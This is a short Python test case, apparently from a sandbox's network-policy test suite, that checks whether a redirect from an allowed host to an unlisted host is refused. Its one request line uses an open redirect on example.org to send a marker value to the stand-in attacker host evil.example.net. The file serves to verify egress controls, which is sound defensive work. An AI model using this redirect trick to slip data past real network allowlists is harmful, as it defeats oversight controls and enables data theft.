# /// attack
# guarantee = "network"
# summary = "Follows a redirect of a listed server to one that is not listed."
# reference = "RFC 9110, 15.4"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["turned"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:80"] } }
# refusal = { default = "proxy evil.example.net:80 is not in network.allow" }
# ///

import urllib.error
import urllib.request

from kit import refused, succeeded, target

try:
    urllib.request.urlopen(f"http://example.org/redirect?to=http://evil.example.net/{target('MARKER')[::-1]}").close()
    succeeded()
except urllib.error.HTTPError as error:
    refused(error)
